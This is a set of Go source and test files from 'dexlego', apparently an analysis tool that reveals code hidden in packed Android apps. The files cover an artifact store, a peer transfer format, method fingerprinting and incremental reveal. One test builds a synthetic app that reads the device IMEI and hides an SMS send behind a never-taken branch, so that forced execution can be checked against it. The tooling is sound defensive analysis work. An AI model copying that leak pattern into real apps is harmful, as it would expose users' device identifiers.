		s.lru.MoveToFront(el)
		el.Value = art
		return
	}
	s.byKey[key] = s.lru.PushFront(art)
	for s.lru.Len() > s.cap {
		back := s.lru.Back()
		old := s.lru.Remove(back).(*Artifact)
		delete(s.byKey, old.Key)
		s.evicted.Add(1)
	}
}

// apkPath/metaPath map a key into the two-level on-disk fan-out
// (<dir>/<key[:2]>/<key>.{apk,json}), keeping directories small at
// corpus scale.
func (s *Store) apkPath(key string) string {
	return filepath.Join(s.dir, key[:2], key+".apk")
}

func (s *Store) metaPath(key string) string {
	return filepath.Join(s.dir, key[:2], key+".json")
}

// loadDisk reads one persisted artifact; (nil, nil) is a clean miss. A
// torn or corrupt entry is a miss, never an error: the reveal re-creates
// it.
func (s *Store) loadDisk(key string) (*Artifact, error) {
	if s.dir == "" {
		return nil, nil
	}
	revealed, err := os.ReadFile(s.apkPath(key))
	if err != nil {
		return nil, nil
	}
	meta, err := os.ReadFile(s.metaPath(key))
	if err != nil {
		return nil, nil
	}
	art := &Artifact{Revealed: revealed}
	if err := json.Unmarshal(meta, art); err != nil || art.Key != key {
		return nil, nil
	}
	return art, nil
}

// persist writes the artifact with write-then-rename atomicity: a crash
// mid-write leaves a *.tmp* file, never a half-visible artifact. The
// metadata lands last, so an artifact is visible only once complete.
func (s *Store) persist(art *Artifact) error {
	if s.dir == "" {
		return nil
	}
	dir := filepath.Dir(s.apkPath(art.Key))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("store: %w", err)
	}
	if err := atomicWrite(s.apkPath(art.Key), art.Revealed); err != nil {
		return err
	}
	meta, err := json.MarshalIndent(art, "", "  ")
	if err != nil {
		return fmt.Errorf("store: encode metadata: %w", err)
	}
	return atomicWrite(s.metaPath(art.Key), meta)
}

// atomicWrite writes data to a temp file in path's directory and renames
// it into place.
func atomicWrite(path string, data []byte) error {
	tmp, err := os.CreateTemp(filepath.Dir(path), filepath.Base(path)+".tmp*")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	if _, err := tmp.Write(data); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("store: write %s: %w", path, err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("store: close %s: %w", path, err)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("store: publish %s: %w", path, err)
	}
	return nil
}
