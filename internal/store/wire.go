package store

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
)

// Wire format for node-to-node artifact transfer (fleet peer fetch and
// hot-artifact replication): an 8-byte big-endian metadata length, the
// JSON-encoded Artifact metadata (Key, Name, Metrics — the same shape the
// disk tier persists), then the raw revealed-APK bytes. The length prefix
// keeps the multi-megabyte payload out of the JSON encoder, so a transfer
// costs one copy rather than a base64 round trip.

// wireMetaCap bounds the metadata segment a decoder will accept; metadata
// is a per-app metrics report, so anything larger is a corrupt or hostile
// frame, not a real artifact.
const wireMetaCap = 64 << 20

// WireEncode serializes an artifact for transfer to a peer node.
func WireEncode(art *Artifact) ([]byte, error) {
	if art == nil || !ValidKey(art.Key) {
		return nil, ErrBadKey
	}
	if len(art.Revealed) == 0 {
		return nil, errors.New("store: refusing to encode an empty artifact")
	}
	meta, err := json.Marshal(art)
	if err != nil {
		return nil, fmt.Errorf("store: encode artifact metadata: %w", err)
	}
	out := make([]byte, 8+len(meta)+len(art.Revealed))
	binary.BigEndian.PutUint64(out, uint64(len(meta)))
	copy(out[8:], meta)
	copy(out[8+len(meta):], art.Revealed)
	return out, nil
}

// WireDecode parses a transfer frame back into an artifact, validating the
// same invariants Put enforces so a corrupt peer response can never enter
// a store.
func WireDecode(data []byte) (*Artifact, error) {
	if len(data) < 8 {
		return nil, errors.New("store: artifact frame shorter than its length prefix")
	}
	metaLen := binary.BigEndian.Uint64(data)
	if metaLen > wireMetaCap || metaLen > uint64(len(data)-8) {
		return nil, fmt.Errorf("store: artifact frame claims %d metadata bytes of %d", metaLen, len(data)-8)
	}
	art := &Artifact{}
	if err := json.Unmarshal(data[8:8+metaLen], art); err != nil {
		return nil, fmt.Errorf("store: decode artifact metadata: %w", err)
	}
	if !ValidKey(art.Key) {
		return nil, ErrBadKey
	}
	revealed := data[8+metaLen:]
	if len(revealed) == 0 {
		return nil, errors.New("store: artifact frame carries no revealed bytes")
	}
	// Copy out of the caller's buffer: artifacts are immutable once stored,
	// so they must not alias a transport buffer the caller may reuse.
	art.Revealed = append([]byte(nil), revealed...)
	return art, nil
}
