package dexlego_test

import (
	"os"
	"path/filepath"
	"testing"

	root "dexlego"
	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dexgen"
)

func buildGatedLeakAPK(t *testing.T) *apk.APK {
	t.Helper()
	p := dexgen.New()
	cls := p.Class("Lapi/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("api", 0, 2)
		// A second leak behind a never-true branch: only force execution
		// collects it.
		a.Const(3, 0)
		a.IfZ(bytecode.OpIfEqz, 3, "skip")
		a.SendSMS("555", 0, 0)
		a.Label("skip")
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("api", "1.0", "Lapi/Main;")
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

func TestRevealWritesCollectionFiles(t *testing.T) {
	pkg := buildGatedLeakAPK(t)
	dir := t.TempDir()
	res, err := root.Reveal(pkg, root.Options{CollectDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		collector.ClassDataFile, collector.StaticValuesFile,
		collector.MethodDataFile, collector.FieldDataFile, collector.BytecodeFile,
	} {
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Errorf("collection file %s missing: %v", name, err)
		}
	}
	if len(res.Sinks) == 0 {
		t.Error("no sink events recorded")
	}
	reloaded, err := collector.ReadFiles(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(reloaded.Methods) != len(res.Collection.Methods) {
		t.Errorf("reloaded %d methods, want %d",
			len(reloaded.Methods), len(res.Collection.Methods))
	}
}

func TestRevealWithForceExecutionCoversGatedLeak(t *testing.T) {
	pkg := buildGatedLeakAPK(t)
	plain, err := root.Reveal(pkg, root.Options{})
	if err != nil {
		t.Fatal(err)
	}
	forced, err := root.Reveal(pkg, root.Options{ForceExecution: true})
	if err != nil {
		t.Fatal(err)
	}
	countSMS := func(res *root.Result) int {
		n := 0
		em := res.RevealedDex.FindMethod("Lapi/Main;", "onCreate", "")
		placed, err := bytecode.DecodeAll(em.Code.Insns)
		if err != nil {
			t.Fatal(err)
		}
		for _, pl := range placed {
			if pl.Inst.Op.IsInvoke() &&
				res.RevealedDex.MethodAt(pl.Inst.Index).Name == "sendTextMessage" {
				n++
			}
		}
		return n
	}
	if got := countSMS(plain); got != 0 {
		t.Errorf("plain reveal contains %d SMS calls, want 0 (gated code not executed)", got)
	}
	if got := countSMS(forced); got == 0 {
		t.Error("forced reveal lost the gated SMS call")
	}
	if forced.Coverage == nil || forced.Coverage.Instruction.Percent() <
		float64(80) {
		t.Errorf("forced coverage = %+v", forced.Coverage)
	}
}

func TestRevealWithFuzz(t *testing.T) {
	pkg := buildGatedLeakAPK(t)
	res, err := root.Reveal(pkg, root.Options{Fuzz: true, FuzzSeed: 7})
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.ExecutedMethods == 0 {
		t.Error("nothing executed under fuzzing")
	}
}

func TestRevealCustomDeviceAndDriver(t *testing.T) {
	pkg := buildGatedLeakAPK(t)
	dev := art.EmulatorDevice()
	driven := false
	res, err := root.Reveal(pkg, root.Options{
		Device: &dev,
		Driver: func(rt *art.Runtime) error {
			driven = true
			_, err := rt.LaunchActivity()
			return err
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if !driven {
		t.Error("custom driver not used")
	}
	for _, ev := range res.Sinks {
		if ev.Taint.Has(apimodel.TaintIMEI) && ev.Args[1] != art.EmulatorDevice().IMEI {
			t.Errorf("device not applied: leaked %q", ev.Args[1])
		}
	}
}

func TestRevealErrors(t *testing.T) {
	empty := apk.New("x", "1", "LMain;")
	if _, err := root.Reveal(empty, root.Options{}); err == nil {
		t.Error("reveal of dexless APK must fail")
	}
	bad := apk.New("x", "1", "LMain;")
	bad.SetDex([]byte("garbage"))
	if _, err := root.Reveal(bad, root.Options{ForceExecution: true}); err == nil {
		t.Error("force execution on unparsable dex must fail")
	}
}
