package dexlego_test

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/pipeline"
	"dexlego/internal/workload"
)

// marketJobs builds the Table V packed corpus as batch jobs (9 apps >= 8,
// satisfying the concurrency-test floor).
func marketJobs(t testing.TB) []root.BatchJob {
	t.Helper()
	apps, err := workload.MarketApps()
	if err != nil {
		t.Fatal(err)
	}
	jobs := make([]root.BatchJob, len(apps))
	for i, app := range apps {
		jobs[i] = root.BatchJob{
			Name:    app.Package,
			APK:     app.Packed,
			Options: root.Options{InstallNatives: app.Packer.InstallNatives},
		}
	}
	return jobs
}

// TestRevealBatchMatchesSerial is the batch-determinism contract: revealing
// the Table V packed corpus with 8 workers must produce, app for app, the
// same bytes as the serial path, and the report must list the apps in
// submission order regardless of completion order. Run under -race this is
// also the concurrency audit of the collector/runtime/reassembler stack.
func TestRevealBatchMatchesSerial(t *testing.T) {
	jobs := marketJobs(t)
	if len(jobs) < 8 {
		t.Fatalf("corpus has %d apps, want >= 8", len(jobs))
	}

	type serialOut struct {
		apkBytes []byte
		insns    int
		methods  int
	}
	serial := make([]serialOut, len(jobs))
	for i, job := range jobs {
		res, err := root.Reveal(job.APK, job.Options)
		if err != nil {
			t.Fatalf("serial %s: %v", job.Name, err)
		}
		data, err := res.Revealed.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		serial[i] = serialOut{
			apkBytes: data,
			insns:    res.Metrics.ExecutedInsns,
			methods:  res.Metrics.Methods,
		}
	}

	batch := root.RevealBatch(jobs, 8)
	if err := batch.FirstError(); err != nil {
		t.Fatal(err)
	}
	if len(batch.Items) != len(jobs) {
		t.Fatalf("items = %d, want %d", len(batch.Items), len(jobs))
	}
	for i, item := range batch.Items {
		if item.Name != jobs[i].Name {
			t.Fatalf("item %d = %s, want %s: report order must follow submission order",
				i, item.Name, jobs[i].Name)
		}
		data, err := item.Result.Revealed.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(data, serial[i].apkBytes) {
			t.Errorf("%s: batch reveal differs from serial reveal (%d vs %d bytes)",
				item.Name, len(data), len(serial[i].apkBytes))
		}
		m := batch.Report.Apps[i]
		if m.Name != jobs[i].Name {
			t.Errorf("report app %d = %s, want %s", i, m.Name, jobs[i].Name)
		}
		if m.ExecutedInsns != serial[i].insns || m.Methods != serial[i].methods {
			t.Errorf("%s: batch metrics (%d insns, %d methods) != serial (%d, %d)",
				m.Name, m.ExecutedInsns, m.Methods, serial[i].insns, serial[i].methods)
		}
		if m.StageWall(pipeline.StageCollection) <= 0 {
			t.Errorf("%s: collection stage wall time not recorded", m.Name)
		}
		if m.StageWall(pipeline.StageReassembly) <= 0 {
			t.Errorf("%s: reassembly stage wall time not recorded", m.Name)
		}
	}
	if batch.Report.Failed != 0 || batch.Report.Jobs != len(jobs) {
		t.Errorf("report jobs/failed = %d/%d, want %d/0",
			batch.Report.Jobs, batch.Report.Failed, len(jobs))
	}
	if batch.Report.TotalExecutedInsns == 0 {
		t.Error("report total executed instructions is zero")
	}
	if _, err := batch.Report.JSON(); err != nil {
		t.Errorf("report JSON: %v", err)
	}
}

// TestRevealBatchPanicIsolation: one job whose driver panics must fail with
// a *pipeline.PanicError while every other job completes normally.
func TestRevealBatchPanicIsolation(t *testing.T) {
	jobs := marketJobs(t)[:4]
	bad := 2
	jobs[bad].Options.Driver = func(rt *art.Runtime) error {
		panic("hostile apk took down the runtime")
	}
	batch := root.RevealBatch(jobs, 4)
	for i, item := range batch.Items {
		if i == bad {
			var pe *pipeline.PanicError
			if !errors.As(item.Err, &pe) {
				t.Fatalf("bad job err = %v, want *pipeline.PanicError", item.Err)
			}
			if item.Result != nil {
				t.Error("panicked job must not carry a result")
			}
			if batch.Report.Apps[i].Err == "" {
				t.Error("panicked job missing from report")
			}
			continue
		}
		if item.Err != nil {
			t.Errorf("healthy job %s failed: %v", item.Name, item.Err)
		}
	}
	if batch.Report.Failed != 1 {
		t.Errorf("report failed = %d, want 1", batch.Report.Failed)
	}
}

// TestRevealBatchErrorIsolation: a job whose APK has no classes.dex fails
// with an ordinary error; the rest of the batch is unaffected.
func TestRevealBatchErrorIsolation(t *testing.T) {
	jobs := marketJobs(t)[:3]
	jobs[0] = root.BatchJob{
		Name: "broken.apk",
		APK:  apk.New("broken", "1.0", "Lbroken/Main;"),
	}
	batch := root.RevealBatch(jobs, 2)
	if batch.Items[0].Err == nil {
		t.Fatal("dex-less APK must fail")
	}
	var pe *pipeline.PanicError
	if errors.As(batch.Items[0].Err, &pe) {
		t.Fatalf("plain error misreported as panic: %v", batch.Items[0].Err)
	}
	for _, item := range batch.Items[1:] {
		if item.Err != nil {
			t.Errorf("healthy job %s failed: %v", item.Name, item.Err)
		}
	}
	if err := batch.FirstError(); err == nil ||
		!strings.Contains(err.Error(), "broken.apk") {
		t.Errorf("FirstError = %v, want broken.apk failure", err)
	}
}

// TestRevealBatchEmptyAndNamedDefaults covers the degenerate batch and the
// job-name fallback.
func TestRevealBatchEmptyAndNamedDefaults(t *testing.T) {
	empty := root.RevealBatch(nil, 4)
	if len(empty.Items) != 0 || empty.Report.Jobs != 0 {
		t.Fatalf("empty batch = %+v", empty.Report)
	}
	jobs := marketJobs(t)[:1]
	jobs[0].Name = ""
	h := jobs[0].APK.ContentHash()
	want := fmt.Sprintf("apk-%x", h[:6])
	batch := root.RevealBatch(jobs, 1)
	if batch.Items[0].Name != want {
		t.Errorf("default name = %s, want content-derived %s", batch.Items[0].Name, want)
	}
}
