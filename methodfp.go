package dexlego

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// Method fingerprints are the identity half of the incremental reveal: a
// method whose fingerprint is unchanged between two versions of an app is
// guaranteed to collect the same trees, so its cached collection tree can be
// spliced instead of re-executed. The fingerprint is built from two parts:
//
//   - the method's canonical code-item bytes: access flags, register shape,
//     try/handler table, and every decoded instruction with its constant-pool
//     operands resolved to symbolic form (string value, type descriptor,
//     field key, method key) so that pool-index shifts between versions do
//     not invalidate untouched methods;
//   - the fingerprints of its resolved callees, folded in bottom-up over the
//     call graph. Direct, static and super invokes contribute their exact
//     target; virtual and interface invokes over-approximate to every app
//     method with the same name and signature (any override could be the
//     runtime target); a const-string naming an app method adds edges to all
//     methods of that name (the reflection heuristic, matching the paper's
//     Method.invoke rewriting).
//
// Call-graph cycles are handled by Tarjan SCC condensation: every member of
// a strongly connected component folds in one shared component digest (built
// from the sorted member body-hashes and the sorted fingerprints of
// successor components), so a change anywhere in a cycle invalidates the
// whole cycle and the computation stays well-founded.

// methodFPVersion versions the fingerprint encoding; bumping it invalidates
// every method-cache entry, which is the correct failure mode for any change
// to the scheme below.
const methodFPVersion = "methodfp/v1"

// MethodFingerprints computes the fingerprint of every bytecode method in f,
// keyed by the collector's canonical method key (Lcls;->name(sig)). Methods
// without code (native, abstract) carry no collection trees and are omitted.
func MethodFingerprints(f *dex.File) map[string]string {
	g := buildMethodGraph(f)
	g.condense()
	fps := make(map[string]string, len(g.nodes))
	for _, comp := range g.sccs {
		digest := g.componentDigest(comp)
		for _, ni := range comp {
			n := g.nodes[ni]
			h := sha256.New()
			fmt.Fprintf(h, "%s|method|%s|%s", methodFPVersion, n.local, digest)
			fps[n.key] = hex.EncodeToString(h.Sum(nil))
		}
	}
	return fps
}

// fpNode is one bytecode method in the call graph.
type fpNode struct {
	key   string
	local string // hex body hash (code-item bytes, no callee influence)
	succs []int  // edges to possibly-called app methods

	// Tarjan bookkeeping.
	index, lowlink int
	onStack        bool
	scc            int
}

type fpGraph struct {
	nodes  []*fpNode
	byKey  map[string]int
	sccs   [][]int  // condensation, emitted callees-first (reverse topological)
	sccFPs []string // digest per SCC, parallel to sccs
}

// buildMethodGraph hashes every method body and resolves the call edges.
func buildMethodGraph(f *dex.File) *fpGraph {
	g := &fpGraph{byKey: make(map[string]int)}
	// byNameSig and byName power the virtual/interface and reflection
	// over-approximations; they must only be built over app methods.
	byNameSig := make(map[string][]int)
	byName := make(map[string][]int)
	type pending struct {
		node  int
		em    *dex.EncodedMethod
		insts []bytecode.Placed
	}
	var work []pending
	for ci := range f.Classes {
		cls := &f.Classes[ci]
		for _, list := range [][]dex.EncodedMethod{cls.DirectMeths, cls.VirtualMeths} {
			for mi := range list {
				em := &list[mi]
				if em.Code == nil {
					continue
				}
				ref := f.MethodAt(em.Method)
				n := &fpNode{key: ref.Key()}
				insts, err := bytecode.DecodeAll(em.Code.Insns)
				n.local = localBodyHash(f, em, insts, err)
				g.byKey[n.key] = len(g.nodes)
				byNameSig[ref.Name+ref.Signature] = append(byNameSig[ref.Name+ref.Signature], len(g.nodes))
				byName[ref.Name] = append(byName[ref.Name], len(g.nodes))
				g.nodes = append(g.nodes, n)
				work = append(work, pending{node: len(g.nodes) - 1, em: em, insts: insts})
			}
		}
	}
	for _, p := range work {
		n := g.nodes[p.node]
		seen := make(map[int]bool)
		addEdge := func(to int) {
			if !seen[to] {
				seen[to] = true
				n.succs = append(n.succs, to)
			}
		}
		for _, pl := range p.insts {
			in := pl.Inst
			switch {
			case in.Op.IsInvoke():
				ref := f.MethodAt(in.Index)
				switch in.Op {
				case bytecode.OpInvokeVirtual, bytecode.OpInvokeInterface,
					bytecode.OpInvokeVirtualR, bytecode.OpInvokeInterR:
					for _, to := range byNameSig[ref.Name+ref.Signature] {
						addEdge(to)
					}
				default: // direct, static, super: the target is exact
					if to, ok := g.byKey[ref.Key()]; ok {
						addEdge(to)
					}
				}
			case in.Op.Index() == bytecode.IndexString:
				// Reflection heuristic: a string equal to an app method name
				// may reach it through Method.invoke.
				for _, to := range byName[f.String(in.Index)] {
					addEdge(to)
				}
			}
		}
		sort.Ints(n.succs)
	}
	return g
}

// localBodyHash hashes one method's canonical code-item bytes: everything
// about the body except constant-pool index values, which are replaced by
// the symbols they resolve to.
func localBodyHash(f *dex.File, em *dex.EncodedMethod, insts []bytecode.Placed, decodeErr error) string {
	ref := f.MethodAt(em.Method)
	h := sha256.New()
	fmt.Fprintf(h, "%s|body|%s|%#x|%d,%d,%d", methodFPVersion, ref.Key(),
		em.AccessFlags, em.Code.RegistersSize, em.Code.InsSize, em.Code.OutsSize)
	for _, try := range em.Code.Tries {
		fmt.Fprintf(h, "|try:%d+%d", try.Start, try.Count)
		for _, ta := range try.Handlers {
			fmt.Fprintf(h, ";%s@%d", f.TypeName(ta.Type), ta.Addr)
		}
		fmt.Fprintf(h, ";all@%d", try.CatchAll)
	}
	if decodeErr != nil {
		// An undecodable body (junk units awaiting runtime rewriting) falls
		// back to the raw code units: still deterministic, never spliced
		// wrongly, merely without index canonicalization.
		fmt.Fprintf(h, "|raw:%v|", decodeErr)
		for _, u := range em.Code.Insns {
			fmt.Fprintf(h, "%04x", u)
		}
		return hex.EncodeToString(h.Sum(nil))
	}
	for _, pl := range insts {
		in := pl.Inst
		fmt.Fprintf(h, "|%d:%s:%d,%d,%d:%d:%d", pl.PC, in.Op.String(), in.A, in.B, in.C, in.Lit, in.Off)
		if len(in.Args) > 0 {
			fmt.Fprintf(h, ":a%v", in.Args)
		}
		if len(in.Keys) > 0 || len(in.Targets) > 0 {
			fmt.Fprintf(h, ":k%v:t%v", in.Keys, in.Targets)
		}
		switch in.Op.Index() {
		case bytecode.IndexString:
			fmt.Fprintf(h, ":s%q", f.String(in.Index))
		case bytecode.IndexType:
			fmt.Fprintf(h, ":y%s", f.TypeName(in.Index))
		case bytecode.IndexField:
			fr := f.FieldAt(in.Index)
			fmt.Fprintf(h, ":f%s->%s:%s", fr.Class, fr.Name, fr.Type)
		case bytecode.IndexMethod:
			fmt.Fprintf(h, ":m%s", f.MethodAt(in.Index).Key())
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}

// condense runs Tarjan's algorithm. SCCs land in g.sccs in the order Tarjan
// completes them, which is reverse topological: every successor component of
// an SCC is emitted before it, so componentDigest can look successor digests
// up as it goes.
func (g *fpGraph) condense() {
	next := 1
	var stack []int
	var strongconnect func(v int)
	strongconnect = func(v int) {
		n := g.nodes[v]
		n.index, n.lowlink = next, next
		next++
		stack = append(stack, v)
		n.onStack = true
		for _, w := range n.succs {
			m := g.nodes[w]
			if m.index == 0 {
				strongconnect(w)
				n.lowlink = min(n.lowlink, m.lowlink)
			} else if m.onStack {
				n.lowlink = min(n.lowlink, m.index)
			}
		}
		if n.lowlink == n.index {
			var comp []int
			for {
				w := stack[len(stack)-1]
				stack = stack[:len(stack)-1]
				g.nodes[w].onStack = false
				g.nodes[w].scc = len(g.sccs)
				comp = append(comp, w)
				if w == v {
					break
				}
			}
			g.sccs = append(g.sccs, comp)
		}
	}
	for v := range g.nodes {
		if g.nodes[v].index == 0 {
			strongconnect(v)
		}
	}
	g.sccFPs = make([]string, len(g.sccs))
}

// componentDigest folds one SCC: sorted member body hashes plus the sorted
// digests of all successor components. Must be called in g.sccs order.
func (g *fpGraph) componentDigest(comp []int) string {
	self := g.nodes[comp[0]].scc
	members := make([]string, 0, len(comp))
	succSet := make(map[string]bool)
	for _, ni := range comp {
		members = append(members, g.nodes[ni].local)
		for _, w := range g.nodes[ni].succs {
			if s := g.nodes[w].scc; s != self {
				succSet[g.sccFPs[s]] = true
			}
		}
	}
	sort.Strings(members)
	succs := make([]string, 0, len(succSet))
	for s := range succSet {
		succs = append(succs, s)
	}
	sort.Strings(succs)
	h := sha256.New()
	fmt.Fprintf(h, "%s|scc|%s|%s", methodFPVersion,
		strings.Join(members, ","), strings.Join(succs, ","))
	d := hex.EncodeToString(h.Sum(nil))
	g.sccFPs[self] = d
	return d
}
