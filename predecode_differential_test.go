package dexlego_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"testing"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/droidbench"
	"dexlego/internal/hotbench"
	"dexlego/internal/obs"
)

// projectEvents canonicalizes a JSONL trace for differential comparison:
// wall-clock fields (timestamps, durations) and process-global span ids are
// zeroed, and the predecode_* events are dropped — they exist only on the
// predecoded path, and their absence on the reference path is the one
// intended difference between the two interpreters. Everything else — the
// collection-tree forks, reassembly decisions, forced-run lifecycle — must
// match event for event.
func projectEvents(t *testing.T, trace []byte) []string {
	t.Helper()
	var out []string
	sc := bufio.NewScanner(bytes.NewReader(trace))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var ev obs.Event
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("trace line %q: %v", sc.Bytes(), err)
		}
		if ev.Type == obs.EventPredecodeHit || ev.Type == obs.EventPredecodeInvalidate {
			continue
		}
		ev.TS = 0
		ev.Span = 0
		ev.Parent = 0
		ev.DurNS = 0
		// Heap readings are measurements, not behavior: the two interpreters
		// legitimately allocate differently. The sample's presence and stage
		// attribution still must match.
		ev.Bytes = 0
		ev.Heap = 0
		line, err := json.Marshal(&ev)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, string(line))
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// revealWithPredecode runs one traced Reveal with the interpreter mode
// forced through the DEXLEGO_PREDECODE toggle, returning the revealed DEX
// bytes and the projected event stream.
func revealWithPredecode(t *testing.T, pkg *apk.APK, natives map[string]art.NativeFunc,
	predecode bool, opts root.Options) ([]byte, []string) {
	t.Helper()
	mode := "on"
	if !predecode {
		mode = "off"
	}
	t.Setenv("DEXLEGO_PREDECODE", mode)
	var trace bytes.Buffer
	opts.Natives = natives
	opts.Tracer = obs.New(obs.NewJSONLSink(&trace))
	res, err := root.Reveal(pkg, opts)
	if err != nil {
		t.Fatalf("reveal (predecode %s): %v", mode, err)
	}
	dexBytes, err := res.Revealed.Dex()
	if err != nil {
		t.Fatal(err)
	}
	return dexBytes, projectEvents(t, trace.Bytes())
}

// diffStreams reports the first diverging event between two projected
// streams, with enough context to localize it.
func diffStreams(t *testing.T, ref, got []string) {
	t.Helper()
	n := len(ref)
	if len(got) < n {
		n = len(got)
	}
	for i := 0; i < n; i++ {
		if ref[i] != got[i] {
			t.Errorf("event %d diverges:\n predecode off: %s\n predecode on:  %s", i, ref[i], got[i])
			return
		}
	}
	if len(ref) != len(got) {
		t.Errorf("event count diverges: %d (predecode off) vs %d (predecode on)", len(ref), len(got))
	}
}

// TestPredecodeDifferentialDroidBench is the differential proof of the
// predecoded handler-table interpreter: every DroidBench sample is revealed
// once with the reference decode-per-step interpreter and once with
// predecode on, and both the revealed DEX bytes and the projected obs event
// streams must be identical. Workers is pinned to 1 so the serial event
// order is the comparison key.
func TestPredecodeDifferentialDroidBench(t *testing.T) {
	for _, s := range droidbench.Suite() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			refDex, refEvents := revealWithPredecode(t, pkg, s.Natives(), false,
				root.Options{Workers: 1})
			gotDex, gotEvents := revealWithPredecode(t, pkg, s.Natives(), true,
				root.Options{Workers: 1})
			if !bytes.Equal(refDex, gotDex) {
				t.Errorf("revealed DEX differs between interpreters (%d vs %d bytes)",
					len(refDex), len(gotDex))
			}
			diffStreams(t, refEvents, gotEvents)
		})
	}
}

// TestPredecodeDifferentialGoldenCorpus deepens the check on the pinned
// hotbench corpus: force execution is enabled so the differential covers
// branch overrides, the forced-run pool and the coverage module, and the
// byte-identity is additionally asserted at Workers > 1, where all shard
// runtimes of a campaign share one predecoded-program cache.
func TestPredecodeDifferentialGoldenCorpus(t *testing.T) {
	for _, name := range hotbench.CorpusNames {
		s := droidbench.ByName(name)
		if s == nil {
			t.Fatalf("corpus sample %q missing", name)
		}
		t.Run(name, func(t *testing.T) {
			pkg, err := s.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			refDex, refEvents := revealWithPredecode(t, pkg, s.Natives(), false,
				root.Options{Workers: 1, ForceExecution: true})
			gotDex, gotEvents := revealWithPredecode(t, pkg, s.Natives(), true,
				root.Options{Workers: 1, ForceExecution: true})
			if !bytes.Equal(refDex, gotDex) {
				t.Errorf("revealed DEX differs between interpreters (%d vs %d bytes)",
					len(refDex), len(gotDex))
			}
			diffStreams(t, refEvents, gotEvents)

			// Shard parallelism must not change the bytes either: the forced
			// runs then race on the shared program cache (exercised hard
			// under -race).
			parDex, _ := revealWithPredecode(t, pkg, s.Natives(), true,
				root.Options{Workers: 4, ForceExecution: true})
			if !bytes.Equal(refDex, parDex) {
				t.Errorf("revealed DEX differs at Workers=4 (%d vs %d bytes)",
					len(refDex), len(parDex))
			}
		})
	}
}
