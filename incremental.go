package dexlego

import (
	"sort"

	"dexlego/internal/apk"
	"dexlego/internal/collector"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

// The incremental reveal path: instead of re-executing every method of an
// updated APK, each method is keyed by its body fingerprint (methodfp.go)
// and looked up in the per-method tree cache. Hits go on a skip list — the
// collector records only that they ran, the force engine schedules no runs
// for them — and their cached trees are spliced into the result before
// reassembly. Because the fingerprint folds in every resolved callee, an
// unchanged key across versions means the method executes the same code,
// so the spliced result is byte-identical to the full path's.
//
// Safety rails: records marked Written (art.Hooks.CodeWritten) or carrying
// divergence forks never enter the cache, and a write observed into a
// skip-listed method at runtime voids the whole plan — Reveal falls back to
// a full run. Store-back happens only after the revealed DEX verified.

// incPlan is the per-reveal incremental state: the lookup outcome for every
// fingerprintable method.
type incPlan struct {
	optionsFP string
	fps       map[string]string                  // method key -> body fingerprint
	cached    map[string]*collector.MethodRecord // skip-listed key -> decoded record
	skip      map[string]bool
}

// planIncremental fingerprints the APK's methods and resolves each against
// the method cache, emitting method_cache_hit/miss per lookup. It returns
// nil — full path, no skip list — when the incremental feature is off or
// the primary dex does not parse (the plain pipeline tolerates that; the
// planner must not turn it into a failure).
func planIncremental(pkg *apk.APK, opts Options, span *obs.Span) *incPlan {
	if !opts.Incremental || opts.MethodCache == nil {
		return nil
	}
	f, err := pkg.DexFile()
	if err != nil {
		return nil
	}
	p := &incPlan{
		optionsFP: opts.Fingerprint(),
		fps:       MethodFingerprints(f),
		cached:    make(map[string]*collector.MethodRecord),
		skip:      make(map[string]bool),
	}
	keys := make([]string, 0, len(p.fps))
	for k := range p.fps {
		keys = append(keys, k)
	}
	sort.Strings(keys) // deterministic lookup (and event) order
	for _, key := range keys {
		rec := p.lookup(opts.MethodCache, key)
		if rec == nil {
			span.MethodCacheMiss(key)
			continue
		}
		p.skip[key] = true
		p.cached[key] = rec
		span.MethodCacheHit(key)
	}
	return p
}

// lookup resolves one method against the cache, treating undecodable or
// uncacheable records as misses.
func (p *incPlan) lookup(mc *store.MethodCache, key string) *collector.MethodRecord {
	data, ok := mc.Get(store.MethodKeyFor(p.optionsFP, p.fps[key]))
	if !ok {
		return nil
	}
	rec, err := collector.DecodeRecord(data)
	if err != nil || rec.Key() != key || !rec.Cacheable() {
		return nil
	}
	return rec
}

